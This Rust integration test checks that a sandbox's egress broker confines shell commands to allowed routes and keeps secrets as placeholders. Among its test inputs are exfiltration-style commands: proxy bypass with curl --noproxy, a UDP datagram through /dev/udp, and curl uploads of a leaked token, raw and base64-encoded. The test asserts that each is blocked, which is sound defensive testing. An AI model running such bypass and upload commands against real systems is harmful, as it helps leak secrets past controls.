//! Exec shells' one way out, the broker: their routes only, secrets as
//! placeholders, no way around it.

use super::*;

#[test]
fn exec_reaches_only_its_routes_through_the_broker_and_secrets_stay_placeholders() {
    const TOKEN: &str = "test-token-5f4e3d2c1b0a99887766";
    let (port, seen) = outside_server();
    let (tls_port, tls_root, tls_seen) = outside_tls_server();
    let hs = instance(&format!(
        "[agent]\n[llm]\nchain = []\n\
         [exec]\napproval = \"allowlist\"\nallow = [\"curl\", \"printenv\", \"cat\", \"echo\", \"base64\", \"getent\"]\ntimeout_secs = 20\n\
         [[egress.routes]]\nhosts = [\"localhost\"]\nports = [{port}]\n\
         [[egress.routes]]\nhosts = [\"localhost\"]\nports = [{tls_port}]\ntls = true\n\
         [egress.secrets.TEST_TOKEN]\nhosts = [\"localhost\"]\nheader = \"authorization\"\n"
    ));
    let roots = hs.path("outside-root.pem");
    std::fs::write(&roots, tls_root).unwrap();
    // The test's "outside" is this machine's loopback, which the broker
    // refuses unless told otherwise.
    hs.edit_config(|text| {
        text.replace(
            "egress_internal = []",
            "egress_internal = [\"127.0.0.0/8\"]",
        )
    });
    hs.run_with_stdin(&["secret", "put", "TEST_TOKEN"], TOKEN.as_bytes())
        .ok();
    // The edge trusts the test's root only (the system's roots are replaced).
    let running = Running::start_with(&hs, &[("SSL_CERT_FILE", roots.to_str().unwrap())]);
    let token = token(&hs);
    let session = new_session(&running, &token);

    // An ordinary client, honouring HTTP_PROXY, reaches an allowed route.
    let answer = run(
        &hs,
        &session,
        &format!("curl -sS http://localhost:{port}/hello"),
    );
    assert_eq!(ran(&answer)["stdout"], "hello from outside", "{answer}");
    // The placeholder becomes the secret on the way out, in its header only.
    let answer = run(
        &hs,
        &session,
        &format!(
            "curl -sS -H 'Authorization: Bearer hs-secret:TEST_TOKEN' http://localhost:{port}/auth"
        ),
    );
    assert_eq!(ran(&answer)["stdout"], "hello from outside", "{answer}");
    let heads = seen.lock().unwrap().clone();
    assert!(
        heads
            .iter()
            .any(|h| h.contains(&format!("authorization: Bearer {TOKEN}"))),
        "{heads:?}"
    );
    // On a TLS route the command speaks plain HTTP and the broker speaks
    // TLS: the placeholder works for an HTTPS API, and the API's echo of
    // the secret comes back as the placeholder.
    let answer = run(
        &hs,
        &session,
        &format!(
            "curl -sS -H 'Authorization: Bearer hs-secret:TEST_TOKEN' http://localhost:{tls_port}/user"
        ),
    );
    assert_eq!(
        ran(&answer)["stdout"],
        "you sent Bearer hs-secret:TEST_TOKEN",
        "{answer}"
    );
    let heads = tls_seen.lock().unwrap().clone();
    assert_eq!(heads.len(), 1, "{heads:?}");
    assert!(heads[0].starts_with("GET /user HTTP/1.1"), "{heads:?}");
    assert!(
        heads[0].contains(&format!("authorization: Bearer {TOKEN}")),
        "{heads:?}"
    );
    // HTTPS to it is read all the same: the route is inspected (a secret
    // is bound there), so the broker ends the shell's TLS with the egress
    // CA, which the shell trusts with nothing configured, and the
    // placeholder is swapped inside.
    let answer = run(
        &hs,
        &session,
        &format!(
            "curl -sS -H 'Authorization: Bearer hs-secret:TEST_TOKEN' https://localhost:{tls_port}/tunnelled"
        ),
    );
    assert_eq!(
        ran(&answer)["stdout"],
        "you sent Bearer hs-secret:TEST_TOKEN",
        "{answer}"
    );
    let heads = tls_seen.lock().unwrap().clone();
    assert_eq!(heads.len(), 2, "{heads:?}");
    assert!(heads[1].starts_with("GET /tunnelled HTTP/1.1"), "{heads:?}");
    assert!(
        heads[1].contains(&format!("authorization: Bearer {TOKEN}")),
        "{heads:?}"
    );
    // Aimed elsewhere (another header), it is refused and nothing leaves.
    let before = seen.lock().unwrap().len();
    let answer = run(
        &hs,
        &session,
        &format!("curl -sS -H 'X-Other: hs-secret:TEST_TOKEN' http://localhost:{port}/other"),
    );
    let stdout = ran(&answer)["stdout"].as_str().unwrap().to_owned();
    assert!(
        stdout.contains("secret TEST_TOKEN is not bound"),
        "{answer}"
    );
    assert_eq!(seen.lock().unwrap().len(), before);
    // Other hosts and ports: refused by the broker.
    for url in [
        format!("http://127.0.0.2:{port}/"),
        "http://localhost:1/".to_owned(),
    ] {
        let answer = run(&hs, &session, &format!("curl -sS {url}"));
        let stdout = ran(&answer)["stdout"].as_str().unwrap().to_owned();
        assert!(
            stdout.contains("hardshell broker: refused"),
            "{url}: {answer}"
        );
    }
    assert_eq!(seen.lock().unwrap().len(), before);
    // Around the broker there is nothing: a client told not to use the
    // proxy, a name lookup, a datagram to the host's loopback.
    let canary = std::net::UdpSocket::bind("127.0.0.1:0").unwrap();
    canary
        .set_read_timeout(Some(std::time::Duration::from_millis(300)))
        .unwrap();
    let udp = canary.local_addr().unwrap().port();
    let answer = run(
        &hs,
        &session,
        &format!(
            "curl -sS --noproxy '*' http://localhost:{port}/direct; \
             curl -sS http://example.com/ ; \
             getent hosts example.com || echo no-dns; \
             echo leak > /dev/udp/127.0.0.1/{udp}"
        ),
    );
    let report = ran(&answer);
    let stderr = report["stderr"].as_str().unwrap();
    assert!(
        stderr.contains("Failed to connect") || stderr.contains("Couldn't connect"),
        "{answer}"
    );
    let stdout = report["stdout"].as_str().unwrap();
    assert!(
        stdout.contains("example.com is not an allowed host"),
        "{answer}"
    );
    // No name is resolved in the shell: there is no resolver to reach.
    assert!(stdout.contains("no-dns"), "{answer}");
    assert_eq!(
        seen.lock().unwrap().len(),
        before,
        "a direct request arrived"
    );
    let mut buffer = [0u8; 16];
    assert!(
        canary.recv(&mut buffer).is_err(),
        "a datagram left the shell"
    );
    // The shell never holds the value: not in its environment.
    // (`printenv`: `env`, which can run a program, is asked about.)
    let answer = run(&hs, &session, "printenv");
    let env = ran(&answer)["stdout"].as_str().unwrap().to_owned();
    assert!(!env.contains(TOKEN), "{env}");
    assert!(env.contains("HTTP_PROXY=http://127.0.0.1:3128"), "{env}");
    // Were the value to reach the workspace some other way, it is cut out of
    // what a command shows, and refused on the way out in any encoding.
    std::fs::write(
        hs.path(&format!("data/workspaces/{session}/leaked.txt")),
        format!("token: {TOKEN}\n"),
    )
    .unwrap();
    let answer = run(&hs, &session, "cat leaked.txt");
    let shown = ran(&answer)["stdout"].as_str().unwrap().to_owned();
    assert_eq!(shown, "token: [redacted:TEST_TOKEN]\n", "{answer}");
    let answer = run(
        &hs,
        &session,
        &format!("curl -sS --data-binary @leaked.txt http://localhost:{port}/upload"),
    );
    let stdout = ran(&answer)["stdout"].as_str().unwrap().to_owned();
    assert!(
        stdout.contains("carries the value of secret TEST_TOKEN"),
        "{answer}"
    );
    // Encoded first, in the shell, it is refused all the same.
    let answer = run(
        &hs,
        &session,
        &format!(
            "base64 -w0 leaked.txt > encoded.txt; curl -sS --data-binary @encoded.txt http://localhost:{port}/upload"
        ),
    );
    let stdout = ran(&answer)["stdout"].as_str().unwrap().to_owned();
    assert!(
        stdout.contains("carries the value of secret TEST_TOKEN"),
        "{answer}"
    );
    assert_eq!(seen.lock().unwrap().len(), before, "the leak left");
    running.stop();

    let records = hs.run(&["audit", "tail"]).ok().stdout;
    assert!(records.contains("\"type\":\"egress_decided\""), "{records}");
    assert!(records.contains("\"decision\":\"refused\""), "{records}");
    assert!(
        records.contains("\"type\":\"secret_misdirected\""),
        "{records}"
    );
    for kind in ["secret_redacted", "secret_leak_blocked"] {
        assert!(
            records.contains(&format!("\"type\":\"{kind}\"")),
            "{kind}: {records}"
        );
    }
    assert!(!records.contains(TOKEN), "the secret reached the audit log");
}
